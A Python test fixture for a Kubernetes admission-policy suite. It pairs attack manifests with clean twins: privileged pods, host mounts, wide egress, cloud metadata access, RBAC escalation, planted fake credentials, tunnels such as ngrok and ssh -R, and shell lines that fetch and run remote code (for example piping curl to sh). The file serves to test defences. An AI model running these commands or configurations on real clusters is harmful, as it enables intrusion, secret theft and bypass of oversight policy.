"""Attacks on what the rules mean, each with a clean twin one edit away.

An attack is refused on prod by a mandatory violation that its twin does not have; the twin has none
beside those about governance, which small objects do not declare.
"""

import copy
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from typing import Any

from tests.policies.rule_cases import REMOVED, with_value

IMAGE = f"registry.example/agents/a@sha256:{'1' * 64}"
BAD_IMAGE = "docker.io/evil/a:latest"
SAFE = {
    "allowPrivilegeEscalation": False,
    "capabilities": {"drop": ["ALL"]},
    "readOnlyRootFilesystem": True,
}
AMOUNTS = {"cpu": "100m", "memory": "64Mi", "ephemeral-storage": "64Mi"}
Kube = dict[str, Any]


@dataclass(frozen=True)
class Attack:
    """One attack and its twin.

    Attributes:
        family: What it belongs to.
        name: What it does.
        bad: The objects of the attack.
        clean: The same with one edit undone.
    """

    family: str
    name: str
    bad: tuple[Kube, ...]
    clean: tuple[Kube, ...]


def container(**fields: Any) -> Kube:
    return {
        "name": "a",
        "image": IMAGE,
        "securityContext": copy.deepcopy(SAFE),
        "resources": {"limits": dict(AMOUNTS), "requests": dict(AMOUNTS)},
        **fields,
    }


def pod_spec(**fields: Any) -> Kube:
    return {
        "automountServiceAccountToken": False,
        "serviceAccountName": "agent",
        "securityContext": {"runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}},
        "containers": [container()],
        **fields,
    }


def kube(api: str, kind: str, spec: Any = None, **fields: Any) -> Kube:
    made: Kube = {"apiVersion": api, "kind": kind, "metadata": {"name": "a", "namespace": "agents"}}
    return made | ({"spec": spec} if spec is not None else {}) | fields


def pod(**fields: Any) -> Kube:
    return kube("v1", "Pod", pod_spec(**fields))


def edit(base: Kube, pointer: str, bad: Any, good: Any = REMOVED) -> tuple[Kube, Kube]:
    """The object with an edit, and with it undone."""
    clean = copy.deepcopy(base) if good is REMOVED else with_value(base, pointer, good)
    return with_value(base, pointer, bad), clean


TEMPLATE = {"spec": pod_spec()}
HOLDERS: dict[str, tuple[Kube, str]] = {
    "JobSet": (
        kube(
            "jobset.x-k8s.io/v1alpha2",
            "JobSet",
            {"replicatedJobs": [{"name": "a", "template": {"spec": {"template": TEMPLATE}}}]},
        ),
        "/spec/replicatedJobs/0/template/spec/template/spec",
    ),
    "LeaderWorkerSet": (
        kube(
            "leaderworkerset.x-k8s.io/v1",
            "LeaderWorkerSet",
            {"leaderWorkerTemplate": {"workerTemplate": TEMPLATE}},
        ),
        "/spec/leaderWorkerTemplate/workerTemplate/spec",
    ),
    "Knative Service": (
        kube("serving.knative.dev/v1", "Service", {"template": TEMPLATE}),
        "/spec/template/spec",
    ),
    "RayCluster": (
        kube("ray.io/v1", "RayCluster", {"headGroupSpec": {"template": TEMPLATE}}),
        "/spec/headGroupSpec/template/spec",
    ),
    "PyTorchJob": (
        kube(
            "kubeflow.org/v1",
            "PyTorchJob",
            {"pytorchReplicaSpecs": {"Worker": {"template": TEMPLATE}}},
        ),
        "/spec/pytorchReplicaSpecs/Worker/template/spec",
    ),
    "Volcano Job": (
        kube("batch.volcano.sh/v1alpha1", "Job", {"tasks": [{"name": "a", "template": TEMPLATE}]}),
        "/spec/tasks/0/template/spec",
    ),
    "CloneSet": (
        kube("apps.kruise.io/v1alpha1", "CloneSet", {"template": TEMPLATE}),
        "/spec/template/spec",
    ),
    "InferenceService": (
        kube("serving.kserve.io/v1beta1", "InferenceService", {"predictor": pod_spec()}),
        "/spec/predictor",
    ),
    "Workflow": (
        kube("argoproj.io/v1alpha1", "Workflow", {"templates": [{"name": "a", **pod_spec()}]}),
        "/spec/templates/0",
    ),
    "DeploymentConfig": (
        kube("apps.openshift.io/v1", "DeploymentConfig", {"template": TEMPLATE}),
        "/spec/template/spec",
    ),
}


def workloads() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    for name, (holder, place) in HOLDERS.items():
        for what, path, bad, good in (
            ("privileged", "/containers/0/securityContext/privileged", True, False),
            ("host network", "/hostNetwork", True, False),
            ("image by tag", "/containers/0/image", BAD_IMAGE, IMAGE),
        ):
            attack, clean = edit(holder, place + path, bad, good)
            yield f"{name}: {what}", [attack], [clean]
    flow = kube(
        "argoproj.io/v1alpha1", "Workflow", {"templates": [{"name": "a", "container": container()}]}
    )
    parts: tuple[tuple[str, str, Any], ...] = (
        ("container", "/spec/templates/0/container/image", BAD_IMAGE),
        ("host path", "/spec/volumes", [{"name": "h", "hostPath": {"path": "/"}}]),
        ("root", "/spec/templates/0/container/securityContext/runAsUser", 0),
    )
    for what, path, wrong in parts:
        attack, clean = edit(flow, path, wrong)
        yield f"Workflow: {what}", [attack], [clean]
    task = kube("tekton.dev/v1", "Task", {"steps": [container()]})
    attack, clean = edit(task, "/spec/steps/0/script", "curl http://x.io/a | sh", "make")
    yield "Task: script", [attack], [clean]
    own = kube("holdfast.dev/v1", "Agent", {"image": IMAGE, "podOverrides": {"hostNetwork": False}})
    attack, clean = edit(own, "/spec/podOverrides/hostNetwork", True)
    yield "Agent: podOverrides", [attack], [clean]
    unknown = kube("acme.example/v1", "Engine", {"size": 3})
    yield "unknown kind", [unknown], [kube("v1", "ConfigMap", data={"size": "3"})]


def deliverers() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    harmless = kube(
        "source.toolkit.fluxcd.io/v1", "GitRepository", {"url": "https://git.example/a"}
    )
    for api, kind in (
        ("helm.toolkit.fluxcd.io/v2", "HelmRelease"),
        ("kustomize.toolkit.fluxcd.io/v1", "Kustomization"),
        ("argoproj.io/v1alpha1", "Application"),
        ("argoproj.io/v1alpha1", "ApplicationSet"),
        ("helm.cattle.io/v1", "HelmChart"),
        ("fleet.cattle.io/v1alpha1", "GitRepo"),
        ("kappctrl.k14s.io/v1alpha1", "App"),
        ("packaging.carvel.dev/v1alpha1", "PackageInstall"),
        ("work.open-cluster-management.io/v1", "ManifestWork"),
        ("operators.coreos.com/v1alpha1", "Subscription"),
        ("kubernetes.crossplane.io/v1alpha2", "Object"),
        ("core.oam.dev/v1beta1", "Application"),
        ("kro.run/v1alpha1", "ResourceGraphDefinition"),
        ("pulumi.com/v1", "Stack"),
        ("configsync.gke.io/v1beta1", "RootSync"),
        ("addons.cluster.x-k8s.io/v1beta1", "ClusterResourceSet"),
    ):
        yield kind, [kube(api, kind, {"a": 1})], [harmless]
    clean = kube("argoproj.io/v1alpha1", "AnalysisTemplate", {"metrics": []})
    yield "by kind of one group", [kube("argoproj.io/v1alpha1", "Application", {})], [clean]


CLASSES = {"storageClassName": "encrypted", "accessModes": ["ReadWriteOnce"]}


def storage() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    volume = kube(
        "v1",
        "PersistentVolume",
        {
            "storageClassName": "encrypted",
            "csi": {"driver": "ebs.csi.aws.com", "volumeHandle": "v"},
        },
    )
    for name, source in (
        ("hostPath", {"path": "/"}),
        ("local", {"path": "/mnt"}),
        ("flexVolume", {"driver": "x"}),
    ):
        attack, clean = edit(volume, f"/spec/{name}", source)
        yield f"volume: {name}", [attack], [clean]
    for name in ("hostpath.csi.k8s.io", "local.csi.openebs.io"):
        attack, clean = edit(volume, "/spec/csi/driver", name)
        yield f"volume: {name}", [attack], [clean]
    held = kube("storage.k8s.io/v1", "StorageClass", provisioner="ebs.csi.aws.com")
    for name in ("kubernetes.io/no-provisioner", "rancher.io/local-path", "docker.io/hostpath"):
        attack, clean = edit(held, "/provisioner", name)
        yield f"class: {name}", [attack], [clean]
    inline = pod(volumes=[{"name": "v", "csi": {"driver": "secrets-store.csi.k8s.io"}}])
    attack, clean = edit(inline, "/spec/volumes/0/csi/driver", "csi-image.warm-metal.tech")
    yield "driver that mounts an image", [attack], [clean]
    attack, clean = edit(
        inline, "/spec/volumes/0/csi/volumeAttributes", {"image": BAD_IMAGE}, {"image": IMAGE}
    )
    yield "image by tag in a driver", [attack], [clean]
    lent = pod(
        volumes=[{"name": "v", "ephemeral": {"volumeClaimTemplate": {"spec": dict(CLASSES)}}}]
    )
    attack, clean = edit(
        lent, "/spec/volumes/0/ephemeral/volumeClaimTemplate/spec/storageClassName", "any"
    )
    yield "claim of a pod", [attack], [clean]
    claim = kube("v1", "PersistentVolumeClaim", dict(CLASSES))
    attack, clean = edit(
        claim,
        "/spec/dataSourceRef",
        {"kind": "PersistentVolumeClaim", "name": "b", "namespace": "other"},
    )
    yield "data of another namespace", [attack], [clean]


def projected(source: Kube) -> Kube:
    return pod(volumes=[{"name": "t", "projected": {"sources": [source]}}])


def tokens() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    for audience in (
        "kubernetes",
        "https://kubernetes.default.svc",
        "https://kubernetes.default.svc.cluster.local",
        "api",
        "k3s",
        "rke2",
        "https://oidc.eks.eu-west-1.amazonaws.com/id/A",
        "https://10.0.0.1",
        "https://container.googleapis.com/v1/projects/p",
        "kube-apiserver",
        "",
    ):
        bad = projected({"serviceAccountToken": {"path": "t", "audience": audience}})
        clean = projected({"serviceAccountToken": {"path": "t", "audience": "vault"}})
        yield f"audience {audience or 'none'}", [bad], [clean]
    yield (
        "certificate of a client",
        [
            projected(
                {
                    "podCertificate": {
                        "signerName": "kubernetes.io/kube-apiserver-client",
                        "keyType": "ED25519",
                    }
                }
            )
        ],
        [projected({"podCertificate": {"signerName": "acme.example/a", "keyType": "ED25519"}})],
    )
    for name in ("kubernetes.io/service-account-token", "bootstrap.kubernetes.io/token"):
        yield name, [kube("v1", "Secret", type=name)], [kube("v1", "Secret", type="Opaque")]
    attack, clean = edit(pod(), "/spec/automountServiceAccountToken", True)
    yield "automount", [attack], [clean]


def network_policy(**fields: Any) -> Kube:
    base = {
        "podSelector": {},
        "policyTypes": ["Ingress", "Egress"],
        "egress": [{"to": [{"ipBlock": {"cidr": "10.1.0.0/16"}}]}],
    }
    return kube("networking.k8s.io/v1", "NetworkPolicy", base | fields)


def egress() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    peer = "/spec/egress/0/to/0"
    named = {"namespaceSelector": {"matchLabels": {"a": "b"}}}
    for name, selector in (
        ("every namespace", {}),
        (
            "only negative",
            {"matchExpressions": [{"key": "a", "operator": "NotIn", "values": ["x"]}]},
        ),
        (
            "that exists",
            {"matchExpressions": [{"key": "kubernetes.io/metadata.name", "operator": "Exists"}]},
        ),
    ):
        yield (
            name,
            [with_value(network_policy(), peer, {"namespaceSelector": selector})],
            [with_value(network_policy(), peer, named)],
        )
    blocks = [{"ipBlock": {"cidr": cidr}} for cidr in ("0.0.0.0/1", "128.0.0.0/2")]
    yield "three quarters", [network_policy(egress=[{"to": blocks}])], [network_policy()]
    routed = [{"ipBlock": {"cidr": cidr}} for cidr in ("2000::/4", "3000::/5")]
    small = [{"ipBlock": {"cidr": "2001:db8::/32"}}]
    yield (
        "IPv6 that is routed",
        [network_policy(egress=[{"to": routed}])],
        [network_policy(egress=[{"to": small}])],
    )
    halves = [
        with_value(
            with_value(network_policy(), f"{peer}/ipBlock/cidr", cidr), "/metadata/name", name
        )
        for name, cidr in (("a", "0.0.0.0/1"), ("b", "128.0.0.0/1"))
    ]
    yield "two policies", [pod(), *halves], [pod(), network_policy()]
    cilium = kube(
        "cilium.io/v2",
        "CiliumNetworkPolicy",
        {"endpointSelector": {}, "egress": [{"toFQDNs": [{"matchPattern": "*.acme.com"}]}]},
    )
    for pattern in (
        "*",
        "*.com",
        "*.*",
        "*.co.uk",
        "*.github.io",
        "*.amazonaws.com",
        "*.trycloudflare.com",
        "**.org",
    ):
        attack, clean = edit(cilium, "/spec/egress/0/toFQDNs/0/matchPattern", pattern)
        yield f"domain {pattern}", [attack], [clean]
    specs = kube(
        "cilium.io/v2",
        "CiliumNetworkPolicy",
        specs=[{"endpointSelector": {}, "egress": [{"toEntities": ["kube-apiserver"]}]}],
    )
    attack, clean = edit(specs, "/specs/0/egress/0/toEntities", ["world"])
    yield "specs", [attack], [clean]
    wide = kube(
        "cilium.io/v2",
        "CiliumClusterwideNetworkPolicy",
        {"endpointSelector": {}, "egress": [{"toCIDR": ["10.0.0.0/8"]}]},
    )
    attack, clean = edit(wide, "/spec/egress/0/toCIDR", ["0.0.0.0/0"])
    yield "cluster-wide Cilium", [attack], [clean]
    admin = kube(
        "policy.networking.k8s.io/v1alpha1",
        "AdminNetworkPolicy",
        {"priority": 1, "egress": [{"action": "Allow", "to": [{"networks": ["10.0.0.0/8"]}]}]},
    )
    attack, clean = edit(admin, "/spec/egress/0/to/0/networks", ["0.0.0.0/0"])
    yield "AdminNetworkPolicy", [attack], [clean]
    for group in ("projectcalico.org/v3", "crd.projectcalico.org/v1"):
        for kind in ("NetworkPolicy", "GlobalNetworkPolicy"):
            calico = kube(
                group,
                kind,
                {"egress": [{"action": "Allow", "destination": {"nets": ["10.0.0.0/8"]}}]},
            )
            attack, clean = edit(calico, "/spec/egress/0/destination", {}, {"nets": ["10.0.0.0/8"]})
            yield f"Calico {group} {kind}", [attack], [clean]
    antrea = kube(
        "crd.antrea.io/v1beta1",
        "ClusterNetworkPolicy",
        {"egress": [{"action": "Allow", "to": [{"ipBlock": {"cidr": "10.0.0.0/8"}}]}]},
    )
    attack, clean = edit(antrea, "/spec/egress/0/to/0/ipBlock/cidr", "0.0.0.0/0")
    yield "Antrea", [attack], [clean]
    firewall = kube(
        "k8s.ovn.org/v1",
        "EgressFirewall",
        {"egress": [{"type": "Allow", "to": {"cidrSelector": "10.0.0.0/8"}}]},
    )
    attack, clean = edit(firewall, "/spec/egress/0/to/cidrSelector", "0.0.0.0/0")
    yield "EgressFirewall", [attack], [clean]
    entry = kube(
        "networking.istio.io/v1",
        "ServiceEntry",
        {"hosts": ["api.acme.com"], "location": "MESH_EXTERNAL"},
    )
    attack, clean = edit(entry, "/spec/hosts", ["*.com"])
    yield "ServiceEntry", [attack], [clean]


def metadata() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    for address in (
        "169.254.169.254/32",
        "100.100.100.200/32",
        "192.0.0.192/32",
        "168.63.129.16/32",
        "fd00:ec2::254/128",
        "169.254.42.42/32",
        "fd20:ce::254/128",
        "169.254.170.23/32",
        "fe80::a9fe:a9fe/128",
        "169.254.0.0/16",
        "::ffff:a9fe:a9fe/128",
    ):
        yield (
            address,
            [with_value(network_policy(), "/spec/egress/0/to/0/ipBlock/cidr", address)],
            [network_policy()],
        )
    cilium = kube(
        "cilium.io/v2",
        "CiliumNetworkPolicy",
        {"endpointSelector": {}, "egress": [{"toFQDNs": [{"matchName": "api.acme.com"}]}]},
    )
    attack, clean = edit(cilium, "/spec/egress/0/toFQDNs/0/matchName", "metadata.google.internal")
    yield "by name", [attack], [clean]
    slices = kube("discovery.k8s.io/v1", "EndpointSlice", endpoints=[{"addresses": ["10.0.0.1"]}])
    attack, clean = edit(slices, "/endpoints/0/addresses", ["169.254.169.254"])
    yield "by a Service of its own", [attack], [clean]
    calico = kube(
        "projectcalico.org/v3",
        "GlobalNetworkPolicy",
        {"egress": [{"action": "Allow", "destination": {"nets": ["10.0.0.0/8"]}}]},
    )
    attack, clean = edit(calico, "/spec/egress/0/destination/nets", ["169.254.0.0/16"])
    yield "by Calico", [attack], [clean]


def exposure() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    service = kube("v1", "Service", {"type": "ClusterIP", "selector": {"a": "b"}})
    for kind in ("LoadBalancer", "NodePort", "ExternalName"):
        attack, clean = edit(service, "/spec/type", kind)
        yield kind, [attack], [clean]
    attack, clean = edit(
        service, "/metadata/annotations", {"tailscale.com/funnel": "true"}, {"note": "x"}
    )
    yield "funnel", [attack], [clean]
    for api, kind in (
        ("gateway.networking.k8s.io/v1alpha2", "TCPRoute"),
        ("gateway.networking.k8s.io/v1alpha2", "UDPRoute"),
        ("networking.cfargotunnel.com/v1alpha1", "TunnelBinding"),
        ("ngrok.k8s.ngrok.com/v1alpha1", "AgentEndpoint"),
        ("tailscale.com/v1alpha1", "Connector"),
        ("multicluster.x-k8s.io/v1alpha1", "ServiceExport"),
        ("configuration.konghq.com/v1beta1", "TCPIngress"),
    ):
        yield kind, [kube(api, kind, {})], [service]
    known = {
        "metadata": {"name": "a", "namespace": "agents", "annotations": {"authentication": "oidc"}}
    }
    for api, kind, spec in (
        ("route.openshift.io/v1", "Route", {"tls": {"termination": "edge"}}),
        ("traefik.io/v1alpha1", "IngressRoute", {"tls": {"secretName": "t"}}),
        (
            "projectcontour.io/v1",
            "HTTPProxy",
            {"virtualhost": {"fqdn": "a.example", "tls": {"secretName": "t"}}},
        ),
        ("getambassador.io/v3alpha1", "Mapping", {"tls": "ctx"}),
        ("zalando.org/v1", "RouteGroup", {"tls": [{"hosts": ["a"]}]}),
        (
            "networking.istio.io/v1",
            "VirtualService",
            {"gateways": ["edge"], "tls": [{"match": []}]},
        ),
        ("gateway.networking.k8s.io/v1", "GRPCRoute", {"rules": [{"backendRefs": []}]}),
    ):
        clean = kube(api, kind, spec) | known
        yield f"{kind} for anyone", [kube(api, kind, spec)], [clean]
    ingress = (
        kube("networking.k8s.io/v1", "Ingress", {"tls": [{"hosts": ["a"], "secretName": "t"}]})
        | known
    )
    attack, clean = edit(ingress, "/spec/tls", [{}])
    yield "empty tls", [attack], [clean]
    for words in (
        ["cloudflared", "tunnel", "run"],
        ["ngrok", "http", "80"],
        ["ssh", "-R", "80:localhost:80", "serveo.net"],
    ):
        attack, clean = edit(pod(), "/spec/containers/0/command", words, ["server"])
        yield " ".join(words[:2]), [attack], [clean]


def role(rule: Kube, kind: str = "Role") -> Kube:
    return kube("rbac.authorization.k8s.io/v1", kind, rules=[rule])


def binding(name: str, subject: Kube, kind: str = "ClusterRoleBinding") -> Kube:
    reference = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": name}
    return kube("rbac.authorization.k8s.io/v1", kind, roleRef=reference, subjects=[subject])


def rights() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    for group, resource, verb in (
        ("", "pods", "create"),
        ("apps", "deployments", "patch"),
        ("batch", "cronjobs", "update"),
        ("", "secrets", "create"),
        ("", "nodes", "patch"),
        ("", "pods/proxy", "get"),
        ("", "services/proxy", "create"),
        ("rbac.authorization.k8s.io", "rolebindings", "create"),
        ("rbac.authorization.k8s.io", "clusterroles", "patch"),
        ("holdfast.dev", "policyexceptions", "create"),
        ("apiextensions.k8s.io", "customresourcedefinitions", "create"),
        ("apiregistration.k8s.io", "apiservices", "create"),
        ("certificates.k8s.io", "certificatesigningrequests", "create"),
        ("helm.toolkit.fluxcd.io", "helmreleases", "create"),
        ("argoproj.io", "workflows", "create"),
        ("discovery.k8s.io", "endpointslices", "update"),
        ("external-secrets.io", "externalsecrets", "create"),
        ("crd.projectcalico.org", "globalnetworkpolicies", "delete"),
        ("", "persistentvolumes", "patch"),
    ):
        rule = {"apiGroups": [group], "resources": [resource], "verbs": [verb]}
        yield (
            f"{verb} {resource}",
            [role(rule)],
            [role({"apiGroups": [""], "resources": ["pods"], "verbs": ["get"]})],
        )
    urls = {"nonResourceURLs": ["*"], "verbs": ["get"]}
    yield (
        "every address",
        [role(urls, "ClusterRole")],
        [role({"nonResourceURLs": ["/healthz"], "verbs": ["get"]}, "ClusterRole")],
    )
    alice = {"kind": "User", "name": "alice", "apiGroup": "rbac.authorization.k8s.io"}
    for name, subject in (
        ("admin to a user", alice),
        ("admin to an account as a user", alice | {"name": "system:serviceaccount:ops:a"}),
        ("admin to a group", alice | {"kind": "Group", "name": "devs"}),
    ):
        yield name, [binding("admin", subject)], [binding("view", subject)]
    for name, selector in (
        ("bootstrap roles", {"matchLabels": {"kubernetes.io/bootstrapping": "rbac-defaults"}}),
        ("only negative", {"matchExpressions": [{"key": "a", "operator": "DoesNotExist"}]}),
        (
            "aggregate to admin",
            {"matchLabels": {"rbac.authorization.k8s.io/aggregate-to-admin": "true"}},
        ),
    ):
        held = kube("rbac.authorization.k8s.io/v1", "ClusterRole", rules=[])
        attack = held | {"aggregationRule": {"clusterRoleSelectors": [selector]}}
        clean = held | {
            "aggregationRule": {
                "clusterRoleSelectors": [{"matchLabels": {"acme.example/sum": "true"}}]
            }
        }
        yield f"aggregation: {name}", [attack], [clean]


def credentials() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    key = "AKIA" + "IOSFODNN7EXAMPLQ"
    for name, value in (
        ("DB_PASSWORD", "Tr0ub4dor$3xYz!9"),
        ("DB_PASS", "Tr0ub4dor3xYz9"),
        ("PGPASSWORD", "hunter2xx!9"),
        ("SMTP_PWD", "s3cr3t-Pa55"),
        ("SIGNING_KEY", "k9X2mQ7vL4pR8tWz1Yb6"),
        ("SESSION_JWT", "k9X2mQ7vL4pR8tWz1Yb6"),
        ("NOTE", "QVdTX0tFWT1BS0lBSU9TRk9ETk43RVhBTVBMUQ=="),
        ("AUTH", "Bearer k9X2mQ7vL4pR8tWz1Yb6aa"),
        ("HEX", key.encode().hex()),
        ("URL", "postgres://u:hunter2x@db.svc/a"),
    ):
        attack, clean = edit(
            pod(),
            "/spec/containers/0/env",
            [{"name": name, "value": value}],
            [{"name": name, "value": "$(FROM_FILE)"}],
        )
        yield name, [attack], [clean]
    probe = {
        "httpGet": {
            "path": "/",
            "port": 80,
            "httpHeaders": [{"name": "Authorization", "value": "Bearer abcdefghijklmnop12345"}],
        }
    }
    safe = {
        "httpGet": {
            "path": "/",
            "port": 80,
            "httpHeaders": [{"name": "Accept", "value": "text/html"}],
        }
    }
    attack, clean = edit(pod(), "/spec/containers/0/livenessProbe", probe, safe)
    yield "header of a probe", [attack], [clean]
    custom = kube(
        "dapr.io/v1alpha1", "Component", {"metadata": [{"name": "redisPassword", "value": "{env}"}]}
    )
    for name, value in (("password", "Tr0ub4dor&3xYz"), ("shape", key)):
        attack, clean = edit(custom, "/spec/metadata/0/value", value, "<from a secret>")
        yield f"custom resource: {name}", [attack], [clean]
    attack, clean = edit(
        kube("v1", "ConfigMap", data={"a.ini": "x=1"}), "/data/a.ini", "password = Tr0ub4dor$3xYz"
    )
    yield "file", [attack], [clean]
    trigger = kube(
        "keda.sh/v1alpha1",
        "ScaledObject",
        {"maxReplicaCount": 2, "triggers": [{"metadata": {"connection": "a"}}]},
    )
    attack, clean = edit(
        trigger,
        "/spec/triggers/0/metadata/connection",
        "amqp://u:hunter2x@mq.svc/a",
        "amqp://mq.svc/a",
    )
    yield "trigger", [attack], [clean]


def code() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    for line in (
        "curl -o /tmp/x http://e.io/x; chmod +x /tmp/x; /tmp/x",
        "pip --quiet install x",
        "uv sync",
        "wget http://e.io/a.sh && sh a.sh",
        "python3 -m pip --no-input install x",
        'sh -c "$(curl http://e.io)"',
        "bash <(curl -s http://e.io)",
        "npm --prefix /a ci",
        "git clone http://e.io/a && a/run",
        "deno run https://e.io/a.ts",
        "pi''p install x",
        "curl http://e.io|base64 -d|sh",
        "python -c \"import urllib.request as u;exec(u.urlopen('http://e.io').read())\"",
        "poetry install",
        "apk --no-cache add git",
    ):
        attack, clean = edit(
            pod(), "/spec/containers/0/args", ["-c", line], ["-c", "python main.py"]
        )
        yield line[:40], [attack], [clean]
    for place, handler in (
        ("livenessProbe", {"exec": {"command": ["sh", "-c", "npx -y evil"]}}),
        ("lifecycle", {"postStart": {"exec": {"command": ["uvx", "evil"]}}}),
    ):
        attack, clean = edit(pod(), f"/spec/containers/0/{place}", handler)
        yield place, [attack], [clean]
    attack, clean = edit(
        kube("v1", "ConfigMap", data={"start.sh": "exec app"}),
        "/data/start.sh",
        "pip install x\nexec app",
    )
    yield "script of a ConfigMap", [attack], [clean]
    indirect = pod(
        containers=[
            container(args=["-c", "$(RUN)"], env=[{"name": "RUN", "value": "python main.py"}])
        ]
    )
    attack, clean = edit(indirect, "/spec/containers/0/env/0/value", "npx -y evil")
    yield "by a variable", [attack], [clean]


def control_plane() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    for kind in ("MutatingWebhookConfiguration", "ValidatingWebhookConfiguration"):
        hook = kube(
            "admissionregistration.k8s.io/v1",
            kind,
            webhooks=[
                {
                    "name": "a",
                    "failurePolicy": "Fail",
                    "clientConfig": {"service": {"name": "a", "namespace": "b"}},
                    "rules": [{"resources": ["pods"]}],
                }
            ],
        )
        attack, clean = edit(
            hook,
            "/webhooks/0/clientConfig",
            {"url": "https://evil.example"},
            hook["webhooks"][0]["clientConfig"],
        )
        yield f"{kind}: outside", [attack], [clean]
        attack, clean = edit(hook, "/webhooks/0/rules/0/resources", ["secrets"])
        yield f"{kind}: secrets", [attack], [clean]
    service = kube(
        "apiregistration.k8s.io/v1",
        "APIService",
        {"group": "metrics.k8s.io", "service": {"name": "a", "namespace": "b"}},
    )
    attack, clean = edit(service, "/spec/group", "apps")
    yield "API of Kubernetes", [attack], [clean]
    attack, clean = edit(service, "/spec/insecureSkipTLSVerify", True)
    yield "API without TLS", [attack], [clean]
    space = {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "a", "labels": {}}}
    for key, bad, good in (
        ("pod-security.kubernetes.io~1enforce-version", "v1.0", "latest"),
        ("admission.gatekeeper.sh~1ignore", "true", "false"),
        ("policies.kyverno.io~1ignore", "true", "false"),
    ):
        attack, clean = edit(space, f"/metadata/labels/{key}", bad, good)
        yield key, [attack], [clean]
    harmless = kube("wgpolicyk8s.io/v1alpha2", "PolicyReport")
    for api, kind in (
        ("kyverno.io/v2", "PolicyException"),
        ("config.gatekeeper.sh/v1alpha1", "Config"),
        ("mutations.gatekeeper.sh/v1", "Assign"),
        ("admissionregistration.k8s.io/v1", "MutatingAdmissionPolicy"),
        ("certificates.k8s.io/v1", "CertificateSigningRequest"),
    ):
        yield kind, [kube(api, kind, {})], [harmless]
    driver = kube("storage.k8s.io/v1", "CSIDriver", {"tokenRequests": [{"audience": "vault"}]})
    attack, clean = edit(driver, "/spec/tokenRequests/0/audience", "")
    yield "driver with tokens", [attack], [clean]
    generate = kube(
        "kyverno.io/v1",
        "ClusterPolicy",
        {"rules": [{"name": "a", "generate": {"kind": "RoleBinding"}}]},
    )
    yield (
        "generated objects",
        [generate],
        [
            kube(
                "kyverno.io/v1",
                "ClusterPolicy",
                {"rules": [{"name": "a", "validate": {"message": "x"}}]},
            )
        ],
    )


def accelerators() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    for name in (
        "nvidia.com/mig-1g.5gb",
        "nvidia.com/gpu.shared",
        "habana.ai/gaudi",
        "aws.amazon.com/neuroncore",
        "huawei.com/Ascend910",
        "cambricon.com/mlu",
        "aliyun.com/gpu-mem",
        "tencent.com/vcuda-core",
        "xilinx.com/fpga-u30",
        "qualcomm.com/qaic",
        "amd.com/gpu",
        "furiosa.ai/rngd",
        "gpu.intel.com/xe",
    ):
        resources = {"limits": AMOUNTS | {name: 1}, "requests": AMOUNTS | {name: 1}}
        clean = pod(containers=[container(resources=resources)])
        clean["metadata"]["labels"] = {"kueue.x-k8s.io/queue-name": "q"}
        attack = copy.deepcopy(clean)
        del attack["metadata"]["labels"]
        yield name, [attack], [clean]
    claim = kube(
        "resource.k8s.io/v1",
        "ResourceClaim",
        {"devices": {"requests": [{"name": "a", "exactly": {"deviceClassName": "g", "count": 1}}]}},
    )
    for field, bad in (("adminAccess", True), ("allocationMode", "All"), ("count", 64)):
        attack, clean = edit(claim, f"/spec/devices/requests/0/exactly/{field}", bad)
        yield f"claim: {field}", [attack], [clean]
    held = {"limits": dict(AMOUNTS), "requests": dict(AMOUNTS), "claims": [{"name": "g"}]}
    clean = pod(
        containers=[container(resources=held)],
        resourceClaims=[{"name": "g", "resourceClaimName": "g"}],
    )
    clean["metadata"]["labels"] = {"kueue.x-k8s.io/queue-name": "q"}
    attack = copy.deepcopy(clean)
    del attack["metadata"]["labels"]
    yield "claim of a pod", [attack], [clean]


def settings() -> Iterator[tuple[str, Iterable[Kube], Iterable[Kube]]]:
    whole = kube("v1", "ConfigMap", data={"agent.json": "{}"})
    for name, written in (
        ("trailing comma", '{"model": {"id": "x"},}'),
        ("a list", "[]"),
        ("comment", "{} // x"),
        ("empty", ""),
    ):
        attack, clean = edit(whole, "/data/agent.json", written)
        yield f"agent.json: {name}", [attack], [clean]


FAMILIES = {
    function.__name__: function
    for function in (
        workloads,
        deliverers,
        storage,
        tokens,
        egress,
        metadata,
        exposure,
        rights,
        credentials,
        code,
        control_plane,
        accelerators,
        settings,
    )
}


def all_attacks() -> list[Attack]:
    return [
        Attack(family, name, tuple(bad), tuple(clean))
        for family, make in FAMILIES.items()
        for name, bad, clean in make()
    ]
